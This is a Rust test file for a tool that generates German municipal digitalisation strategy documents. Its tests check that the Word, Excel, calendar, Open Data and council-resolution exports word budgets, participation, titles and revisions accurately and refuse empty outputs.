fn the_word_steering_group_shows_names_only_when_there_are_some() {
    let dir = temp();
    let mut s = open(&demo(dir.path()));
    let out = dir.path().join("Strategie.docx");
    let headers = |s: &mut Session| -> String {
        let xml = strategy_word_xml(s, &out);
        // The cells' texts in order, so a header reads „Rolle|Organisation|Name|…“.
        xml.split("<w:t")
            .skip(1)
            // `<w:t>` and `<w:t xml:space=…>`, not `<w:tbl>`, `<w:tc>`, `<w:tr>`.
            .filter(|t| t.starts_with('>') || t.starts_with(' '))
            .filter_map(|t| {
                t.split_once('>')
                    .and_then(|(_, rest)| rest.split_once("</w:t>"))
            })
            .map(|(text, _)| text)
            .collect::<Vec<_>>()
            .join("|")
    };
    let before = headers(&mut s);
    assert!(before.contains("Rolle|Organisation|"), "the table is there");
    assert!(
        !before.contains("Rolle|Organisation|Name|"),
        "no empty name column"
    );
    run_json(
        &mut s,
        r#"{"goals": {"save_stakeholder": {"role": "Ortsvorsteherin", "organisation": "Ortschaftsrat", "name": "Erika Beispiel", "steering_group": true, "public": true}}}"#,
    )
    .unwrap();
    let after = headers(&mut s);
    assert!(after.contains("Rolle|Organisation|Name|"));
    assert!(after.contains("Erika Beispiel"));
}

/// A calendar without a dated workshop, session or milestone and an Open Data package without
/// measures are refused with a German message and write nothing (not even the package's
/// folder); an earlier calendar stays as it was. The overview counts the calendar's events, so
/// the export dialog can say it before the save dialog.
#[test]
fn an_empty_calendar_or_open_data_package_is_refused_and_writes_nothing() {
    let dir = temp();
    let (mut s, _) = bare_project(dir.path(), "Leerdorf");
    let overview = |s: &mut Session| match call(s, Command::Project(ProjectCommand::Overview)) {
        Reply::Overview(o) => o,
        r => panic!("unexpected {r:?}"),
    };
    assert_eq!(overview(&mut s).calendar_events, 0);
    let ics = dir.path().join("Termine.ics");
    let folder = dir.path().join("Open-Data");
    let e = refused(&mut s, ExportFormat::Ics, &ics);
    assert!(e.contains("Der Kalender wäre leer"), "{e}");
    assert!(!ics.exists());
    let e = refused(&mut s, ExportFormat::Opendata, &folder);
    assert!(e.contains("Das Open-Data-Paket wäre leer"), "{e}");
    assert!(!folder.exists(), "an empty folder was left");

    // A phase is no calendar event, nor is a workshop without a date.
    for entry in [
        json!({"title": "Analysephase", "kind": "phase", "start": "2027-03-01", "end": "2027-05-31"}),
        json!({"title": "Zukunftswerkstatt", "kind": "workshop"}),
    ] {
        run_json(
            &mut s,
            &json!({"goals": {"save_timeline_entry": entry}}).to_string(),
        )
        .unwrap();
    }
    assert_eq!(overview(&mut s).calendar_events, 0);
    assert!(refused(&mut s, ExportFormat::Ics, &ics).contains("wäre leer"));
    run_json(
        &mut s,
        &json!({"goals": {"save_timeline_entry": {"title": "Auftakt im Gemeinderat", "kind": "council_session", "start": "2027-03-02"}}}).to_string(),
    )
    .unwrap();
    assert_eq!(overview(&mut s).calendar_events, 1);
    export(&mut s, ExportFormat::Ics, &ics);
    let written = std::fs::read_to_string(&ics).unwrap();
    assert_eq!(written.matches("BEGIN:VEVENT").count(), 1, "{written}");
    assert!(written.contains("SUMMARY:Auftakt im Gemeinderat"));
}

/// The Beschlussvorlage of a strategy still without measures or Lebensbereiche does not ask the
/// council to adopt „0 Maßnahmen“; with areas but no measures it names only the areas.
#[test]
fn the_vorlage_names_no_part_that_is_still_zero() {
    let dir = temp();
    let (mut s, _) = bare_project(dir.path(), "Leerdorf");
    let flat = vorlage_text(&mut s, dir.path());
    assert!(
        flat.contains(&squeeze(
            "Der Gemeinderat beschließt die Digitalisierungsstrategie Leerdorf (Entwurf 1), Stand"
        )),
        "{flat}"
    );
    assert!(!flat.contains("0Maßnahmen"), "{flat}");
    assert!(!flat.contains("mit("), "{flat}");
    let area = areas(&mut s).areas[0].area.id;
    run_json(
        &mut s,
        &json!({"life_areas": {"save_life_area": {"id": area, "selected": true}}}).to_string(),
    )
    .unwrap();
    let flat = vorlage_text(&mut s, dir.path());
    assert!(flat.contains("mit1Lebensbereich(Anlage1)"), "{flat}");
}

/// The workbook of a project without costs in any year has no „Summe“ row of zeros on its budget
/// sheet, but a line saying so – as the report and the window.
#[test]
fn the_workbook_adds_up_no_budget_of_nothing() {
    let dir = temp();
    let (mut s, _) = bare_project(dir.path(), "Leerdorf");
    let out = dir.path().join("Leerdorf.xlsx");
    export(&mut s, ExportFormat::Xlsx, &out);
    let mut book: Xlsx<_> = open_workbook(&out).unwrap();
    let budget = book.worksheet_range("Budget je Jahr").unwrap();
    let cells: Vec<String> = budget.rows().flatten().map(|c| c.to_string()).collect();
    assert!(!cells.iter().any(|c| c == "Summe"), "{cells:?}");
    assert!(
        cells.iter().any(|c| c == "Noch keine Kosten mit Zeitraum."),
        "{cells:?}"
    );
}

/// Every document with a budget says the same about what its sums leave out, from one place
/// (`Budget::notes`). The Beschlussvorlage left out that running costs without an end are
/// counted in their first year only: Halbheim's council read „41.200 € in den Jahren 2026 bis
/// 2027“ for a Ratsinformationssystem that costs 1.200 € every year.
#[test]
fn every_budget_says_what_its_sums_leave_out_in_the_same_words() {
    let dir = temp();
    let (mut s, _) = new_project(dir.path(), "Halbheim");
    for line in [
        r#"{"measures":{"save_measure":{"title":"Digitaler Bauantrag","start_quarter":"2027-Q4","end_quarter":"2028-Q4","cost_once_cents":4000000}}}"#,
        r#"{"measures":{"save_measure":{"title":"WLAN im Rathaus"}}}"#,
        r#"{"measures":{"save_measure":{"title":"Ratsinformationssystem","start_quarter":"2028-Q1","cost_yearly_cents":120000}}}"#,
        r#"{"measures":{"save_measure":{"title":"Mängelmelder","cost_once_cents":50000,"funding_rate":0}}}"#,
    ] {
        run_json(&mut s, line).unwrap();
    }
    let notes = measures(&mut s).budget.notes;
    let expected = [
        "Für 1 Maßnahme liegt noch keine Kostenschätzung vor; sie ist in den Beträgen nicht enthalten.",
        "Laufende Kosten ohne angegebenes Ende sind nur im ersten Jahr enthalten: M-00-03.",
        "Ohne Beginn, daher keinem Jahr zugeordnet und in den Beträgen nicht enthalten: M-00-04 (500\u{a0}€).",
    ];
    assert_eq!(notes[..3], expected, "{notes:?}");
    assert_eq!(
        notes.len(),
        5,
        "part open and funding open follow: {notes:?}"
    );

    let vorlage = vorlage_text(&mut s, dir.path());
    let report = crate::report::unmarked_text(&mut s, dir.path());
    let word = strategy_word_xml(&mut s, &dir.path().join("Strategie.docx"));
    let book_path = dir.path().join("Halbheim.xlsx");
    export(&mut s, ExportFormat::Xlsx, &book_path);
    let mut book: Xlsx<_> = open_workbook(&book_path).unwrap();
    let cells: Vec<String> = book
        .worksheet_range("Budget je Jahr")
        .unwrap()
        .rows()
        .flatten()
        .map(|c| c.to_string())
        .collect();
    for note in &notes {
        assert!(
            vorlage.contains(&squeeze(note)),
            "Vorlage: {note}\n{vorlage}"
        );
        assert!(report.contains(&squeeze(note)), "Bericht: {note}");
        assert!(word.contains(note.as_str()), "Word: {note}");
        assert!(cells.contains(note), "Arbeitsmappe: {note}\n{cells:?}");
    }
}

/// The Zusammenfassung – and with it the Vorlage's Sachverhalt – said the strategy was made
/// „gemeinsam mit Verwaltung, Politik und Bürgerschaft“ while no participation was recorded.
#[test]
fn the_strategy_is_said_to_be_made_with_the_citizens_only_when_they_took_part() {
    let dir = temp();
    let (mut s, _) = bare_project(dir.path(), "Leerdorf");
    let flat = vorlage_text(&mut s, dir.path());
    assert!(
        flat.contains(&squeeze(
            "Leerdorf hat eine Digitalisierungsstrategie erarbeitet."
        )),
        "{flat}"
    );
    assert!(!flat.contains("Bürgerschaft"), "{flat}");
    let report = crate::report::unmarked_text(&mut s, dir.path());
    assert!(report.contains(&squeeze(
        "Leerdorf hat eine Digitalisierungsstrategie erarbeitet."
    )));
    assert!(!report.contains(&squeeze("gemeinsam mit Verwaltung, Politik")));
    run_json(
        &mut s,
        r#"{"goals":{"save_event":{"title":"Bürgerwerkstatt","date":"2027-03-04","format":"zukunftswerkstatt","participants":42}}}"#,
    )
    .unwrap();
    let with_citizens = squeeze(
        "Leerdorf hat gemeinsam mit Verwaltung, Politik und Bürgerschaft eine Digitalisierungsstrategie erarbeitet.",
    );
    assert!(vorlage_text(&mut s, dir.path()).contains(&with_citizens));
    assert!(crate::report::unmarked_text(&mut s, dir.path()).contains(&with_citizens));
}

/// A measure without a Lebensbereich is not a Querschnitt measure: the workbook and the Open
/// Data package wrote „Querschnitt“ (which spalten.csv explains as „alle“) for both. The
/// unassigned one now has an empty cell – unknown, not „serves every area“.
#[test]
fn a_measure_without_an_area_is_not_exported_as_querschnitt() {
    let dir = temp();
    let (mut s, _) = bare_project(dir.path(), "Zuordnungsdorf");
    let querschnitt = areas(&mut s)
        .areas
        .into_iter()
        .find(|a| a.area.title == "Querschnitt")
        .expect("the catalogue's Querschnitt")
        .area
        .id;
    for body in [
        json!({"title": "Ohne Bereich"}),
        json!({"title": "Für alle Bereiche", "life_area_id": querschnitt}),
    ] {
        run_json(
            &mut s,
            &json!({"measures": {"save_measure": body}}).to_string(),
        )
        .unwrap();
    }
    let folder = dir.path().join("open-data");
    export(&mut s, ExportFormat::Opendata, &folder);
    let mut csv = csv::Reader::from_path(folder.join("massnahmen.csv")).unwrap();
    let header: Vec<String> = csv.headers().unwrap().iter().map(str::to_owned).collect();
    let at = |name: &str| header.iter().position(|h| h == name).unwrap();
    let areas_of: Vec<(String, String)> = csv
        .records()
        .map(Result::unwrap)
        .map(|r| {
            (
                r[at("titel")].to_string(),
                r[at("lebensbereich")].to_string(),
            )
        })
        .collect();
    assert!(
        areas_of.contains(&("Ohne Bereich".into(), String::new())),
        "{areas_of:?}"
    );
    assert!(
        areas_of.contains(&("Für alle Bereiche".into(), "Querschnitt".into())),
        "{areas_of:?}"
    );

    let book_path = dir.path().join("Zuordnungsdorf.xlsx");
    export(&mut s, ExportFormat::Xlsx, &book_path);
    let mut book: Xlsx<_> = open_workbook(&book_path).unwrap();
    let sheet = book.worksheet_range("Maßnahmen").unwrap();
    let rows: Vec<Vec<String>> = sheet
        .rows()
        .map(|r| r.iter().map(|c| c.to_string()).collect())
        .collect();
    let column = rows[0].iter().position(|h| h == "Lebensbereich").unwrap();
    let area_of = |title: &str| {
        rows.iter()
            .find(|r| r.iter().any(|c| c == title))
            .map(|r| r[column].clone())
            .unwrap()
    };
    assert_eq!(area_of("Ohne Bereich"), "");
    assert_eq!(area_of("Für alle Bereiche"), "Querschnitt");
}

/// A Verbandsgemeinde entered with its kind in its name, as Rheinland-Pfalz writes it, and a
/// strategy title of its own: the Vorlage said „Gemeinde Verbandsgemeinde Rhein-Selz“ and asked
/// the council to adopt a „Digitalisierungsstrategie Verbandsgemeinde Rhein-Selz“ – not the
/// title on the document's cover.
#[test]
fn the_vorlage_names_the_strategy_by_its_cover_and_the_municipality_once() {
    let dir = temp();
    let (mut s, _) = bare_project(dir.path(), "Verbandsgemeinde Rhein-Selz");
    let title = "Digitalisierungsstrategie der Verbandsgemeinde Rhein-Selz 2027–2032";
    run_json(
        &mut s,
        &json!({"strategy": {"save_settings": {"title": title}}}).to_string(),
    )
    .unwrap();
    let flat = vorlage_text(&mut s, dir.path());
    assert!(
        flat.contains(&squeeze(&format!(
            "Betreff {title} (Entwurf 1) – Beschluss"
        ))),
        "{flat}"
    );
    assert!(
        !flat.contains(&squeeze("Gemeinde Verbandsgemeinde")),
        "{flat}"
    );
    let report = crate::report::unmarked_text(&mut s, dir.path());
    assert!(!report.contains(&squeeze("Gemeinde Verbandsgemeinde")));

    // The catalogue's plain title gets the name, as the cover prints it below the title.
    run_json(
        &mut s,
        &json!({"strategy": {"save_settings": {"title": "Digitalisierungsstrategie"}}}).to_string(),
    )
    .unwrap();
    assert!(vorlage_text(&mut s, dir.path()).contains(&squeeze(
        "Betreff Digitalisierungsstrategie Verbandsgemeinde Rhein-Selz (Entwurf 1) – Beschluss"
    )));
    // A title of its own, as Heddesheim's „Digitalisierung@Heddesheim“, is quoted: „beschließt
    // die Digitalisierung@Heddesheim“ is no German sentence.
    for (title, named) in [
        (
            "Verbandsgemeinde Rhein-Selz digital 2030",
            "Digitalisierungsstrategie „Verbandsgemeinde Rhein-Selz digital 2030“",
        ),
        (
            "Smart Region 2030",
            "Digitalisierungsstrategie Verbandsgemeinde Rhein-Selz „Smart Region 2030“",
        ),
    ] {
        run_json(
            &mut s,
            &json!({"strategy": {"save_settings": {"title": title}}}).to_string(),
        )
        .unwrap();
        let flat = vorlage_text(&mut s, dir.path());
        assert!(
            flat.contains(&squeeze(&format!(
                "Der Gemeinderat beschließt die {named} (Entwurf 1), Stand"
            ))),
            "{flat}"
        );
    }
}

/// The Vorlage of a Fortschreibung read as that of a first strategy: the council was asked to
/// adopt „die Digitalisierungsstrategie … (Fortschreibung 2027)“ without a word of the version
/// it adopted two years before, how far its Umsetzung has come or what the new version
/// changes. It now says all three, and that the new version replaces the adopted one.
#[test]
fn the_vorlage_of_a_fortschreibung_says_what_it_replaces_and_changes() {
    let dir = temp();
    let mut s = open(&demo(dir.path()));
    // In force and no Fortschreibung begun: a Vorlage would put the adopted strategy to the vote
    // again („beschließt die Digitalisierungsstrategie Musterstadt (Beschlossen vom Gemeinderat
    // am 03.11.2025), Stand 20.10.2025“). Refused in both forms, nothing written.
    for (format, name) in [
        (ExportFormat::VorlagePdf, "Vorlage.pdf"),
        (ExportFormat::Vorlage, "Vorlage.docx"),
    ] {
        let target = dir.path().join(name);
        assert_eq!(
            refused(&mut s, format, &target),
            "Die Strategie ist seit dem 03.11.2025 in Kraft: Eine Beschlussvorlage gibt es für \
             ihre Fortschreibung (Umsetzung → „Fortschreibung beginnen“; ist sie schon begonnen, \
             im Baustein 5 das Wasserzeichen „ENTWURF“ wieder einschalten)."
        );
        assert!(!target.exists());
    }
    let overview = match call(&mut s, Command::Project(ProjectCommand::Overview)) {
        Reply::Overview(o) => o,
        other => panic!("{other:?}"),
    };
    assert!(overview
        .implementation
        .unwrap()
        .vorlage_refusal
        .unwrap()
        .starts_with("Die Strategie ist seit dem 03.11.2025 in Kraft"));
    run_json(
        &mut s,
        r#"{"implementation":{"start_revision":{"label":"Fortschreibung 2027"}}}"#,
    )
    .unwrap();
    let flat = vorlage_text(&mut s, dir.path());
    for expected in [
        "Der Gemeinderat hat die Digitalisierungsstrategie Musterstadt 2030 am 03.11.2025 \
         (GR 2025/118) beschlossen.",
        "Stand der Umsetzung in der „Statusrunde 2. Halbjahr 2026“ (Stichtag 23.11.2026): 25 im \
         Plan, 2 Verzug, 1 gefährdet, 10 abgeschlossen, 1 gestoppt, 1 zurückgestellt.",
        "Gegenüber der beschlossenen Fassung ändern sich: 1 neue Maßnahme",
        "Sie ersetzt die am 03.11.2025 (GR 2025/118) beschlossene Fassung der \
         Digitalisierungsstrategie Musterstadt 2030.",
        "Betreff Digitalisierungsstrategie Musterstadt (Fortschreibung 2027) – Beschluss",
    ] {
        assert!(flat.contains(&squeeze(expected)), "{expected}\n{flat}");
    }

    // Dated in 2028, it is decided for 2028 and after: 2026 and 2027 were the adopted version's
    // years, and had stood among the financial effects of this decision.
    run_json(
        &mut s,
        r#"{"strategy":{"save_settings":{"date":"2028-02-15"}}}"#,
    )
    .unwrap();
    let flat = vorlage_text(&mut s, dir.path());
    for expected in [
        "Haushaltsjahr Kosten gesamt Förderung Eigenanteil \
         2028 120.000 € 35.900 € 84.100 € \
         2029 67.200 € 7.200 € 60.000 € \
         Summe 187.200 € 43.100 € 144.100 €",
        "Die vergangenen Haushaltsjahre 2026 und 2027 sind nicht aufgeführt: Dort waren \
         1.206.600 € geplant; was ausgegeben wurde, berichtet der Umsetzungsbericht.",
    ] {
        assert!(flat.contains(&squeeze(expected)), "{expected}\n{flat}");
    }
}
